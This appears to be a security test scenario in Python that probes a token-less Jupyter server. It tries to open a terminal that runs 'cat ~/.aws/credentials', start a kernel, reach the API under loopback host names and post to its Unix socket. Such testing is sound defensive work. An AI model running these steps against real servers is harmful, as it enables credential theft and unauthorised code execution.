"""J4: asks a server without a token for a shell and for a kernel"""
from kit import *
from web import request, terminal


def attack(w):
    port = w.open_server["port"]
    yield "a terminal", lambda: terminal(port, "", 'cat ~/.aws/credentials; echo "the end" of it')
    yield "a kernel", lambda: request(port, "POST", "/api/kernels", body={"name": "python3"})
    yield "by name", lambda: request(port, "GET", "/api/status", host="localhost")
    yield "by another loopback name", lambda: request(port, "GET", "/api", host="::ffff:127.0.0.1")
    yield "the server's Unix socket", lambda: at(w.jupyter_socket)


def at(path):
    os.chdir(os.path.dirname(path))
    return unix_connect(os.path.basename(path), b"POST /api/kernels HTTP/1.0\r\n\r\n")


def twin(w):
    yield "a server of its own", own_server
